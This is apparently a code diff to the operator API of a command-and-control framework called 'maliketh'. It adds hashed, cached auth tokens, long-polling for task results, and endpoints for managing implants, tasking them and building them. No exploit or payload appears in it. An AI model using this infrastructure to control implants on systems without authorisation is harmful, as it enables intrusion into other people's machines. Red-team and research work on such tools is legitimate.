@@ -1,18 +1,28 @@
+import hmac
+import threading
+import time
 import nacl
 import nacl.exceptions
 
-from datetime import datetime, timedelta
-from typing import Any, Callable
-from flask import Blueprint, jsonify, request, current_app, Response
+from datetime import datetime, timedelta, timezone
+from typing import Any, Callable, Dict, Tuple
+from flask import Blueprint, request, current_app, Response
+from sqlalchemy.orm import make_transient_to_detached
 from maliketh.db import db
 from maliketh.models import *
 from maliketh.crypto.ec import *
-from maliketh.crypto.utils import random_hex
+from maliketh.crypto.utils import random_hex, hash_token
 from maliketh.config import OP_ROUTES
 from maliketh.opcodes import Opcodes
 from maliketh.builder.builder import ImplantBuilder, BuilderOptions
 from maliketh.models import ImplantAliasMap, Implant
-from maliketh.listeners.utils import error_json, success_json, create_route, setup_logger
+from maliketh.listeners.utils import (
+    error_json,
+    success_json,
+    json_response,
+    create_route,
+    setup_logger,
+)
 from functools import wraps
 import structlog
 
@@ -21,6 +31,45 @@ start_time = datetime.now()
 
 logger = structlog.get_logger()
 
+BEARER_PREFIX = "Bearer "
+AUTH_REQUEST_HEADERS = ("X-ID", "X-Signature")  # Headers required to request an auth token
+TASK_REQUIRED_FIELDS = frozenset(("implant_id", "opcode", "args"))
+
+# Long-polling limits for task results. A waiting request holds a worker thread, so keep the
+# wait well below the operator listener's gunicorn timeout and thread budget.
+TASK_RESULT_MAX_WAIT = 10  # seconds
+TASK_RESULT_POLL_INTERVAL = 1  # seconds
+
+# Verified operators keyed by token digest, along with when the entry stops being trusted.
+# Entries are kept for at most TOKEN_CACHE_TTL so changes made by other workers (e.g. revoking
+# an operator) are picked up without hitting the database on every request.
+TOKEN_CACHE_TTL = timedelta(seconds=30)
+_token_cache: Dict[bytes, Tuple[Operator, datetime]] = {}
+_token_cache_lock = threading.Lock()
+
+
+def _cache_operator(token_hash: bytes, operator: Operator, expiry: datetime) -> None:
+    # Cache a detached copy so later changes to `operator` in this request can't leak into it
+    snapshot = Operator(
+        **{c.key: getattr(operator, c.key) for c in Operator.__table__.columns}
+    )
+    make_transient_to_detached(snapshot)
+
+    now = datetime.now(tz=timezone.utc)
+    with _token_cache_lock:
+        # Drop stale entries so tokens that are never used again don't pile up
+        for key in [k for k, (_, exp) in _token_cache.items() if exp <= now]:
+            del _token_cache[key]
+        _token_cache[token_hash] = (snapshot, min(expiry, now + TOKEN_CACHE_TTL))
+
+
+def _uncache_token(token: Optional[str]) -> None:
+    if token is None:
+        return
+    with _token_cache_lock:
+        _token_cache.pop(hash_token(token), None)
+
+
 def verify_auth_token(request) -> Optional[Operator]:
     """
     Given a request, verify its Authentication header
@@ -34,22 +83,33 @@ def verify_auth_token(request) -> Optional[Operator]:
         return None
 
     # Check if it's a bearer token
-    if not token.startswith("Bearer "):
+    if not token.startswith(BEARER_PREFIX):
         return None
 
     # Get the token
-    token = token[7:]
+    token = token[len(BEARER_PREFIX) :]
 
-    # Get the operator
-    operator = Operator.query.filter_by(auth_token=token).first()
-    if operator is None:
+    token_hash = hash_token(token)
+    now = datetime.now(tz=timezone.utc)
+
+    # Use the cached operator if this token was verified recently
+    with _token_cache_lock:
+        cached = _token_cache.get(token_hash)
+    if cached is not None and cached[1] > now:
+        # Attach the cached operator to this request's session without querying it again
+        return db.session.merge(cached[0], load=False)
+
+    # Get the operator by the token digest, then compare the token itself in constant time
+    operator = Operator.query.filter_by(auth_token_hash=token_hash).first()
+    if operator is None or not hmac.compare_digest(token, operator.auth_token):
         return None
 
     # Check if the token is still valid
-    token_exp = datetime.strptime(operator.auth_token_expiry, "%Y-%m-%d %H:%M:%S")
-    if token_exp < datetime.now():
+    token_exp = operator.token_expiry()
+    if token_exp is None or token_exp < now:
         return None
 
+    _cache_operator(token_hash, operator, token_exp)
     return operator
 
 
@@ -124,7 +184,7 @@ def server_stats(operator: Operator) -> Any:
     num_total_tasks = Task.query.filter_by(operator_name=operator.username).count()
     num_operators = Operator.query.count()
 
-    return jsonify(
+    return json_response(
         {
             "status": True,
             "implants": num_implants,
@@ -142,13 +202,10 @@ def request_token() -> Any:
 
     logger.bind()
 
-    # Check if X-ID and X-Signature header is present
-    if any(x not in request.headers for x in ["X-ID", "X-Signature"]):
-        return error_json("Unknown operator key", 400)
-
-    # Check if they have content
-    if any(len(request.headers[x]) == 0 for x in ["X-ID", "X-Signature"]):
-        return error_json("Unknown operator key", 400)
+    # Check if X-ID and X-Signature headers are present and have content
+    for header in AUTH_REQUEST_HEADERS:
+        if not request.headers.get(header):
+            return error_json("Unknown operator key", 400)
 
     # X-Signature is in format base64(enc_and_sign(pub_key, operator_signing_key, server_pub_key))
     # So we need to decrypt it with the server public key,
@@ -182,33 +239,33 @@ def request_token() -> Any:
 
     # If we get here, the operator is authenticated
 
-    # Check if the token is still valid
-
-    if (
-        operator.auth_token_expiry is not None
-        and datetime.strptime(operator.auth_token_expiry, "%Y-%m-%d %H:%M:%S")
-        > datetime.now()
-    ):
+    # Reuse the current token while it is still valid, only a new token is written to the database
+    now = datetime.now(tz=timezone.utc)
+    token_exp = operator.token_expiry()
+    if token_exp is not None and token_exp > now:
         token = operator.auth_token
+        if operator.auth_token_hash is None:
+            # Tokens issued before auth_token_hash existed can't be verified until they're hashed
+            operator.auth_token_hash = hash_token(token)
+            db.session.commit()
     else:
         # Generate a new token
         token = random_hex(128)
+        token_exp = now + timedelta(hours=6)
         operator.auth_token = token
-        operator.auth_token_expiry = (datetime.now() + timedelta(hours=6)).strftime(
-            "%Y-%m-%d %H:%M:%S"
-        )
+        operator.auth_token_hash = hash_token(token)
+        operator.auth_token_expiry = token_exp
         db.session.commit()
 
-    return (
-        jsonify(
-            {
-                "status": True,
-                "token": token,
-                "rmq_queue": "",
-                "rmq_host": "",
-                "rmq_port": 1,
-            }
-        ),
+    return json_response(
+        {
+            "status": True,
+            "token": token,
+            "expires_in": int((token_exp - now).total_seconds()),
+            "rmq_queue": "",
+            "rmq_host": "",
+            "rmq_port": 1,
+        },
         200,
     )
 
@@ -217,10 +274,12 @@ def request_token() -> Any:
 @verified
 def revoke_token(operator: Operator) -> Any:
     logger.info("Revoking auth token", operator=operator.username)
+    _uncache_token(operator.auth_token)
     operator.auth_token = None  # type: ignore
+    operator.auth_token_hash = None
     operator.auth_token_expiry = None  # type: ignore
     db.session.commit()
-    return jsonify({"status": True}), 200
+    return json_response({"status": True}, 200)
 
 
 @create_route(admin, "auth_token_status")
@@ -237,8 +296,13 @@ def list_tasks(operator: Operator) -> Any:
     """
     Get a list of tasks issued by this operator
     """
-    tasks = Task.query.filter_by(operator_name=operator.username).all()
-    return jsonify({"status": True, "tasks": [x.toJSON() for x in tasks]}), 200
+    # Select only the serialized columns so rows aren't hydrated into full Task objects
+    rows = (
+        db.session.query(*TASK_JSON_COLUMNS)
+        .filter(Task.operator_name == operator.username)
+        .all()
+    )
+    return json_response({"status": True, "tasks": [row._asdict() for row in rows]}, 200)
 
 
 @create_route(admin, "add_task")
@@ -255,13 +319,11 @@ def add_task(operator: Operator) -> Any:
     # Get the task
     task = request.json
 
-    required_fields = ["implant_id", "opcode", "args"]
-
     # Check if the task is valid
-    if any(x not in task for x in required_fields):
+    missing = TASK_REQUIRED_FIELDS - task.keys()
+    if missing:
         return error_json(
-            f"Invalid task, missing fields: {', '.join(required_fields - task.keys())}",
-            400,
+            f"Invalid task, missing fields: {', '.join(sorted(missing))}", 400
         )
 
     # Create the task
@@ -274,7 +336,7 @@ def add_task(operator: Operator) -> Any:
 
     logger.info("Created task", task=task.toJSON(), operator=operator.username)
 
-    return jsonify({"status": True, "task": task.toJSON()}), 200
+    return json_response({"status": True, "task": task.toJSON()}, 200)
 
 
 @create_route(admin, "task_results")
@@ -282,7 +344,8 @@ def add_task(operator: Operator) -> Any:
 @verified
 def get_task_result(operator: Operator, task_id: str) -> Any:
     """
-    Get the result of a task
+    Get the result of a task. If the `wait` query parameter is given, block for up to that many
+    seconds until the task has finished, returning 204 if it still hasn't.
     """
     logger.info("Getting task result", task_id=task_id, operator=operator.username)
     # Check if this operator owns the task
@@ -294,7 +357,17 @@ def get_task_result(operator: Operator, task_id: str) -> Any:
         logger.warn("Operator tried to access task they don't own", task_id=task_id, operator=operator.username)
         return error_json("Unauthorized")
 
-    return jsonify({"status": True, "result": task.output}), 200
+    wait = min(max(request.args.get("wait", 0, type=float), 0), TASK_RESULT_MAX_WAIT)
+    if wait > 0:
+        deadline = time.monotonic() + wait
+        while task.status not in (COMPLETE, ERROR):
+            if time.monotonic() >= deadline:
+                return Response(status=204)
+            # End the transaction so no connection is held while sleeping, `task` reloads on next access
+            db.session.rollback()
+            time.sleep(TASK_RESULT_POLL_INTERVAL)
+
+    return json_response({"status": True, "result": task.output}, 200)
 
 
 @create_route(admin, "delete_task")
@@ -318,7 +391,7 @@ def delete_task(operator: Operator, task_id: str) -> Any:
 
     logger.info("Deleted task", task_id=task_id, operator=operator.username)
 
-    return jsonify({"status": True}), 200
+    return json_response({"status": True}, 200)
 
 
 @create_route(admin, "list_implants")
@@ -328,7 +401,19 @@ def list_implants(operator: Operator) -> Any:
     Get a list of all implants
     """
     implants = Implant.query.all()
-    return jsonify({"status": True, "implants": [x.toJSON() for x in implants]}), 200
+    return json_response({"status": True, "implants": [x.toJSON() for x in implants]}, 200)
+
+
+@create_route(admin, "implant_exists")
+@verified
+def implant_exists(operator: Operator, prefix: str) -> Any:
+    """
+    Check if an implant whose ID starts with `prefix` exists
+    """
+    implant = Implant.query.filter(
+        Implant.__table__.c.implant_id.startswith(prefix, autoescape=True)
+    ).first()
+    return json_response({"status": True, "exists": implant is not None}, 200)
 
 
 @create_route(admin, "update_implant_config")
@@ -376,7 +461,7 @@ def update_config(operator: Operator, implant_id: str) -> Any:
         logger.error("Error updating config", implant_id=implant_id, operator=operator.username, exc_info=e)
         return error_json(f"Error updating config: {e}", 400)
 
-    return jsonify({"status": True, "task": task.toJSON()}), 200
+    return json_response({"status": True, "task": task.toJSON()}, 200)
 
 
 @create_route(admin, "get_implant_config")
@@ -390,7 +475,7 @@ def get_implant_config(operator: Operator, implant_id: str) -> Any:
     if config is None:
         return error_json("Unknown implant", 400)
 
-    return jsonify({"status": True, "config": config.toJSON()}), 200
+    return json_response({"status": True, "config": config.toJSON()}, 200)
 
 
 @create_route(admin, "kill_implant")
@@ -418,7 +503,7 @@ def kill_implant(operator: Operator, implant_id: str) -> Any:
 
     # Do not handle deleting here, the C2 listener will take care of it.
 
-    return jsonify({"status": True}), 200
+    return json_response({"status": True}, 200)
 
 
 @create_route(admin, "build_implant")
@@ -440,10 +525,8 @@ def build_implant(operator: Operator) -> Any:
     if implant_bytes is None:
         return error_json("Error building implant", 500)
 
-    return (
-        jsonify(
-            {"status": True, "implant": base64.b64encode(implant_bytes).decode("utf-8")}
-        ),
+    return json_response(
+        {"status": True, "implant": base64.b64encode(implant_bytes).decode("utf-8")},
         200,
     )
 
@@ -518,7 +601,7 @@ def list_implant_aliases(operator: Operator, implant_id: str) -> Any:
     List all aliases for an implant
     """
     aliases = ImplantAliasMap.query.filter_by(implant_id=implant_id).all()
-    return jsonify({"status": True, "aliases": [x.alias for x in aliases]}), 200
+    return json_response({"status": True, "aliases": [x.alias for x in aliases]}, 200)
 
 @create_route(admin, "resolve_alias")
 @verified
@@ -530,7 +613,7 @@ def resolve_alias(operator: Operator, alias: str) -> Any:
     if a is None:
         return error_json("Unknown alias", 404)
 
-    return jsonify({"status": True, "implant_id": a.implant_id}), 200
+    return json_response({"status": True, "implant_id": a.implant_id}, 200)
 
 @create_route(admin, "admin_revoke_operator")
 @verified